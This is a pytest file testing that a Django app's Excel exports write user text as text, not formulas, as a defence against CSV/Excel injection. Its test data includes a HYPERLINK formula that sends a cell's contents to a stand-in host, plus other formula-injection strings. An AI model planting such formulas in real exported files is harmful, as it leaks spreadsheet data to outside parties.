"""Every exported workbook writes user text as text: no cell of the figure templates, the history template,
the quarterly report or the comparison is a formula, however the text a user typed begins (OWASP CSV/Excel
injection; core.cells)."""

import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from indicators.models import QuarterlyFigure
from reports import selectors, workbooks
from tasks.models import SupervisionStep, TaskUpdate
from tests.reports.conftest import Q, saved

pytestmark = pytest.mark.django_db
INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?"&B5,"详情")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def no_formulas(workbook) -> list[str]:
    """Every string cell of every sheet; fails on any formula cell (none of these workbooks has one)."""
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def shown(texts, injection) -> bool:
    """The text appears as typed (the report may join several texts into one cell)."""
    return any(injection.strip() in text for text in texts)


@pytest.fixture
def injected(report_world):
    step = SupervisionStep.objects.get()
    step.explanation, step.measures = INJECTIONS[0], INJECTIONS[2]
    step.save()
    TaskUpdate.objects.filter(pk=TaskUpdate.objects.order_by("pk").first().pk).update(text=INJECTIONS[3])
    figure = QuarterlyFigure.objects.filter(indicator=report_world.lagging, status="approved").order_by("period_end")
    figure.filter(pk=figure.first().pk).update(comment=INJECTIONS[1], source=INJECTIONS[4])
    report_world.plan.title = INJECTIONS[5] + "方案"
    report_world.plan.save()
    return report_world


def test_the_quarterly_report_writes_explanations_task_updates_and_titles_as_text(injected):
    report = selectors.quarterly_report(plan=injected.plan, quarter=Q, user=injected.staff)
    texts = no_formulas(saved(workbooks.quarterly_workbook(report)))
    for injection in (INJECTIONS[0], INJECTIONS[2], INJECTIONS[3]):
        assert shown(texts, injection), injection


def test_the_comparison_writes_names_as_text(injected):
    injected.lagging.name = INJECTIONS[0]
    injected.lagging.save()
    injected.plan.city.name = INJECTIONS[3]
    injected.plan.city.save()
    report = selectors.comparison_report(cities=selectors.comparison_cities(user=injected.admin), quarter=Q)
    no_formulas(saved(workbooks.comparison_workbook(report)))


def test_the_figure_templates_write_comments_and_sources_as_text(client, injected):
    QuarterlyFigure.objects.filter(indicator=injected.lagging).update(comment=INJECTIONS[0], source=INJECTIONS[3])
    client.force_login(injected.staff)
    for url in (
        reverse("figure_quarter_template", args=[injected.plan.code, str(Q)]),
        reverse("figure_history_template", args=[injected.plan.code]),
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        workbook = load_workbook(io.BytesIO(response.content))
        texts = no_formulas(workbook)
        assert shown(texts, INJECTIONS[0]) and shown(texts, INJECTIONS[3]), url
        quoted = [
            c
            for row in workbook.worksheets[0].iter_rows()
            for c in row
            if isinstance(c.value, str) and c.value.startswith("=")
        ]
        assert quoted and all(c.quotePrefix for c in quoted)
